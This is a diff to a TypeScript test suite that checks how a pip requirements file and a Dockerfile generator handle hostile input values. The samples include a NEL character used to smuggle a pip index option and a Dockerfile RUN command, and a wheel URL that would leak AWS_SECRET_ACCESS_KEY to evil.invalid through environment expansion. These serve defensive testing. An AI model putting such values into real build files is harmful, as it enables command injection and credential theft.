@@ -88,6 +88,9 @@ describe('hostile fingerprint values through the requirements file and the Docke
       url: 'https://files.invalid/x.whl\x85-i https://evil.invalid/',
       pretty: 'Debian\x85RUN touch /tmp/pwned',
     });
+    // pip expands ${VAR} from the building machine's environment; a lone surrogate is written as U+FFFD.
+    samples.push({ label: 'dev', version: '1.0', url: 'https://evil.invalid/${AWS_SECRET_ACCESS_KEY}/x.whl', pretty: 'Debian' });
+    samples.push({ label: 'dev', version: '1.0', url: 'https://files.invalid/\ud800x.whl', pretty: 'Debian' });
     const files = [join(work, 'clean.txt')];
     writeFileSync(files[0]!, requirementsOf(clean));
     const dockerfiles: string[] = [];
